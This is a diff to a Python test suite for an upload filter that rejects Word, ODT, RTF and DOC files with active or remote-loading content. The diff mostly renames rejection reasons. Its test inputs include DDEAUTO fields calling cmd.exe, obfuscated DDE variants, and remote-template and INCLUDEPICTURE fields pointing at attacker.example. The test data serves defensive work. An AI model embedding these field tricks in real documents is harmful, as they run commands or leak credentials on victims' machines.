@@ -127,13 +127,13 @@ def test_a_local_template_is_accepted_because_word_writes_one_into_every_documen
     ],
 )
 def test_content_from_another_machine_is_rejected(kind: str, target: str) -> None:
-    assert refused(related(kind, target)) == UploadReason.LOADS
+    assert refused(related(kind, target)) == UploadReason.EXTERNAL_CONTENT
 
 
 @pytest.mark.parametrize("kind", ["oleObject", "package", "control", "aFChunk", "subDocument"])
 @pytest.mark.parametrize("external", [True, False])
 def test_embedded_files_are_rejected(kind: str, external: bool) -> None:
-    assert refused(related(kind, "https://attacker.example/x", external=external)) == UploadReason.CARRIES_FILES
+    assert refused(related(kind, "https://attacker.example/x", external=external)) == UploadReason.EMBEDDED_FILES
 
 
 def test_macros_are_rejected_wherever_they_are_declared() -> None:
@@ -158,34 +158,49 @@ PICTURE = ("INCLUDEPI", 'CTURE "ht', 'tp://attacker.example/a.png" \\d')
 @pytest.mark.parametrize(
     ("body", "reason"),
     [
-        (f"{BEGIN}{instruction_text(*PICTURE)}{END}", UploadReason.LOADS),
+        (f"{BEGIN}{instruction_text(*PICTURE)}{END}", UploadReason.EXTERNAL_CONTENT),
         (
             f"{BEGIN}{instruction_text('INCLUDEPICTURE ', chr(34) + '//attacker', '.example/a.png' + chr(34))}{END}",
-            UploadReason.LOADS,
+            UploadReason.EXTERNAL_CONTENT,
         ),
-        ('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example/a.png&quot; \\d"/>', UploadReason.LOADS),
+        (
+            '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example/a.png&quot; \\d"/>',
+            UploadReason.EXTERNAL_CONTENT,
+        ),
         (
             '<w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\attacker.example\\\\a.png&quot;"/>',
-            UploadReason.LOADS,
+            UploadReason.EXTERNAL_CONTENT,
         ),
-        (f"{BEGIN}{instruction_text('INCLUDEPICTURE ')}{QUOTED}{END}", UploadReason.LOADS),
+        (f"{BEGIN}{instruction_text('INCLUDEPICTURE ')}{QUOTED}{END}", UploadReason.EXTERNAL_CONTENT),
         (
             f"{BEGIN}{instruction_text('INCLUDETEXT' + ' ' * 9_000)}{instruction_text('http://attacker.example/a')}{END}",
-            UploadReason.LOADS,
+            UploadReason.EXTERNAL_CONTENT,
         ),
-        (f"{BEGIN}{QUOTED}{instruction_text(' cmd x')}{END}", UploadReason.ACTIVE),
-        (f"{BEGIN}{instruction_text('DD')}{QUOTED}{instruction_text('AUTO cmd x')}{END}", UploadReason.ACTIVE),
-        (f'{BEGIN}<w:fldSimple w:instr="QUOTE 68 68 69"/>{instruction_text(" cmd x")}{END}', UploadReason.ACTIVE),
-        (f"{BEGIN}<w:r><w:t>DDE</w:t></w:r><w:r><w:tab/></w:r>{instruction_text('cmd x')}{END}", UploadReason.ACTIVE),
+        (f"{BEGIN}{QUOTED}{instruction_text(' cmd x')}{END}", UploadReason.ACTIVE_CONTENT),
+        (f"{BEGIN}{instruction_text('DD')}{QUOTED}{instruction_text('AUTO cmd x')}{END}", UploadReason.ACTIVE_CONTENT),
+        (
+            f'{BEGIN}<w:fldSimple w:instr="QUOTE 68 68 69"/>{instruction_text(" cmd x")}{END}',
+            UploadReason.ACTIVE_CONTENT,
+        ),
+        (
+            f"{BEGIN}<w:r><w:t>DDE</w:t></w:r><w:r><w:tab/></w:r>{instruction_text('cmd x')}{END}",
+            UploadReason.ACTIVE_CONTENT,
+        ),
         (
             f"{BEGIN}{instruction_text('PAGE')}{SEPARATE}{BEGIN}{instruction_text('DDE cmd x')}{END}{END}",
-            UploadReason.ACTIVE,
+            UploadReason.ACTIVE_CONTENT,
         ),
-        ('<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>', UploadReason.ACTIVE),
-        ("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>", UploadReason.ACTIVE),
-        ('<w:fldSimple w:instr=" dde Excel x y "/>', UploadReason.ACTIVE),
-        ('<w:instrText>INCLUDETEXT "https://attacker.example/x"</w:instrText>', UploadReason.LOADS),
-        ('<w:instrText>LINK Word.Document.8 "\\\\attacker.example\\x"</w:instrText>', UploadReason.LOADS),
+        (
+            '<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>',
+            UploadReason.ACTIVE_CONTENT,
+        ),
+        (
+            "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r>",
+            UploadReason.ACTIVE_CONTENT,
+        ),
+        ('<w:fldSimple w:instr=" dde Excel x y "/>', UploadReason.ACTIVE_CONTENT),
+        ('<w:instrText>INCLUDETEXT "https://attacker.example/x"</w:instrText>', UploadReason.EXTERNAL_CONTENT),
+        ('<w:instrText>LINK Word.Document.8 "\\\\attacker.example\\x"</w:instrText>', UploadReason.EXTERNAL_CONTENT),
     ],
 )
 def test_fields_that_run_or_load_something_are_rejected(body: str, reason: UploadReason) -> None:
@@ -195,15 +210,21 @@ def test_fields_that_run_or_load_something_are_rejected(body: str, reason: Uploa
 @pytest.mark.parametrize(
     ("content", "reason"),
     [
-        ('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>', UploadReason.CARRIES_FILES),
-        ('<text:p><draw:plugin xlink:href="x"/></text:p>', UploadReason.CARRIES_FILES),
-        ('<draw:frame><draw:image xlink:href="https://attacker.example/x.png"/></draw:frame>', UploadReason.LOADS),
-        (r'<draw:frame><draw:image xlink:href="file:///\\attacker/a.png"/></draw:frame>', UploadReason.LOADS),
+        ('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>', UploadReason.EMBEDDED_FILES),
+        ('<text:p><draw:plugin xlink:href="x"/></text:p>', UploadReason.EMBEDDED_FILES),
+        (
+            '<draw:frame><draw:image xlink:href="https://attacker.example/x.png"/></draw:frame>',
+            UploadReason.EXTERNAL_CONTENT,
+        ),
+        (
+            r'<draw:frame><draw:image xlink:href="file:///\\attacker/a.png"/></draw:frame>',
+            UploadReason.EXTERNAL_CONTENT,
+        ),
         (
             '<text:section><text:section-source xlink:href="//attacker.example/x"/></text:section>',
-            UploadReason.LOADS,
+            UploadReason.EXTERNAL_CONTENT,
         ),
-        ('<text:p><office:dde-source office:dde-application="cmd"/></text:p>', UploadReason.ACTIVE),
+        ('<text:p><office:dde-source office:dde-application="cmd"/></text:p>', UploadReason.ACTIVE_CONTENT),
     ],
 )
 def test_odt_files_that_load_or_embed_something_are_rejected(content: str, reason: UploadReason) -> None:
@@ -251,7 +272,7 @@ def test_an_archive_inside_a_document_is_rejected_without_unpacking() -> None:
     nested = files.docx()
     for _ in range(3):
         nested = files.zipped({"[Content_Types].xml": nested})
-    assert refused(files.docx({"word/media/image1.png": nested})) == UploadReason.CARRIES_FILES
+    assert refused(files.docx({"word/media/image1.png": nested})) == UploadReason.EMBEDDED_FILES
 
 
 def test_a_document_that_is_also_a_pdf_is_rejected() -> None:
@@ -292,30 +313,30 @@ def rtf(group: bytes) -> bytes:
 @pytest.mark.parametrize(
     ("group", "reason"),
     [
-        (rb"{\*\template https://attacker.example/x.dotm}", UploadReason.LOADS),
-        (rb"{\*\template \\\\attacker.example\\x.dotm}", UploadReason.LOADS),
-        (rb"{\*\template file:///\'5c{\\}attacker.example\\x.dotm}", UploadReason.LOADS),
+        (rb"{\*\template https://attacker.example/x.dotm}", UploadReason.EXTERNAL_CONTENT),
+        (rb"{\*\template \\\\attacker.example\\x.dotm}", UploadReason.EXTERNAL_CONTENT),
+        (rb"{\*\template file:///\'5c{\\}attacker.example\\x.dotm}", UploadReason.EXTERNAL_CONTENT),
         (rb"{\*\template \u104?\u116?\u116?\u112?}", UploadReason.SUSPICIOUS),
-        (rb"{\shp{\sp{\sn pibName}{\sv \\\\attacker.example\\a.png}}}", UploadReason.LOADS),
-        (rb'{\field{\*\fldinst { INCLUDETEXT "https://attacker.example/x"}}}', UploadReason.LOADS),
-        (rb'{\field{\*\fldinst {INCLUDE}{TEXT "ht}{tps://attacker.example/x"}}}', UploadReason.LOADS),
-        (rb'{\field{\*\fldinst INCLUDEPICTURE "http://attacker.example/a" \\d}}', UploadReason.LOADS),
-        (rb"{\field{\*\fldinst LINK Word.Document.8 \\\\attacker.example\\a.doc \\a}}", UploadReason.LOADS),
-        (rb"{\field{\*\fldinst DDEAUTO cmd x}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst {DD}{EAUTO} c:\\cmd.exe}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst DD\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst \'44\'44\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE),
+        (rb"{\shp{\sp{\sn pibName}{\sv \\\\attacker.example\\a.png}}}", UploadReason.EXTERNAL_CONTENT),
+        (rb'{\field{\*\fldinst { INCLUDETEXT "https://attacker.example/x"}}}', UploadReason.EXTERNAL_CONTENT),
+        (rb'{\field{\*\fldinst {INCLUDE}{TEXT "ht}{tps://attacker.example/x"}}}', UploadReason.EXTERNAL_CONTENT),
+        (rb'{\field{\*\fldinst INCLUDEPICTURE "http://attacker.example/a" \\d}}', UploadReason.EXTERNAL_CONTENT),
+        (rb"{\field{\*\fldinst LINK Word.Document.8 \\\\attacker.example\\a.doc \\a}}", UploadReason.EXTERNAL_CONTENT),
+        (rb"{\field{\*\fldinst DDEAUTO cmd x}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst {DD}{EAUTO} c:\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst DD\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst \'44\'44\'45AUTO c:\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
         (rb"{\field{\*\fldinst \u68?DEAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
         (rb"{\field{\*\fldinst D\u68?EAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
         (rb"{\field{\*\fldinst \uc3\u160 abcDDEAUTO c:\\cmd.exe}}", UploadReason.SUSPICIOUS),
-        (b"{\\field{\\*\\fldinst D\nDE\r\nAUTO c:\\\\cmd.exe}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst {\*\unknown PAGE }DDEAUTO cmd x}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst {\info{\title PAGE }}DDEAUTO cmd x}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst {\*\cs10 DDEAUTO} cmd x}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd x}}", UploadReason.ACTIVE),
+        (b"{\\field{\\*\\fldinst D\nDE\r\nAUTO c:\\\\cmd.exe}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst {\*\unknown PAGE }DDEAUTO cmd x}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst {\info{\title PAGE }}DDEAUTO cmd x}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst {\*\cs10 DDEAUTO} cmd x}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt DDE}} cmd x}}", UploadReason.ACTIVE_CONTENT),
         (rb"{\field{\*\fldinst \bin3 }}}DDEAUTO cmd x}}", UploadReason.SUSPICIOUS),
-        (rb"{\field{\*\fldinst " + b"{" * 9_000 + b"DDE" + b"}" * 9_000 + b" cmd x}}", UploadReason.ACTIVE),
-        (rb"{\field{\*\fldinst " * 30 + b"}}" * 30, UploadReason.ACTIVE),
+        (rb"{\field{\*\fldinst " + b"{" * 9_000 + b"DDE" + b"}" * 9_000 + b" cmd x}}", UploadReason.ACTIVE_CONTENT),
+        (rb"{\field{\*\fldinst " * 30 + b"}}" * 30, UploadReason.ACTIVE_CONTENT),
     ],
 )
 def test_rtf_files_that_load_or_run_something_are_rejected(group: bytes, reason: UploadReason) -> None:
@@ -325,7 +346,7 @@ def test_rtf_files_that_load_or_run_something_are_rejected(group: bytes, reason:
 @pytest.mark.parametrize("short", range(0, 160, 3))
 def test_fields_are_found_across_chunk_boundaries(short: int) -> None:
     padding = b"x" * (64 * 1024 - short - len(files.real("cv.rtf").rstrip()) + 1)
-    assert refused(rtf(padding + rb"{\field{\*\fldinst DDEAUTO cmd x}}")) == UploadReason.ACTIVE
+    assert refused(rtf(padding + rb"{\field{\*\fldinst DDEAUTO cmd x}}")) == UploadReason.ACTIVE_CONTENT
 
 
 def test_an_rtf_with_a_local_template_and_a_link_is_accepted() -> None:
@@ -342,4 +363,4 @@ def test_a_doc_with_an_embedded_object_is_rejected(stream: str) -> None:
     at = content.index(former)
     named = stream.encode("utf-16-le") + b"\0\0"
     changed = content[:at] + named.ljust(64, b"\0") + len(named).to_bytes(2, "little") + content[at + 66 :]
-    assert refused(changed) == UploadReason.CARRIES_FILES
+    assert refused(changed) == UploadReason.EMBEDDED_FILES
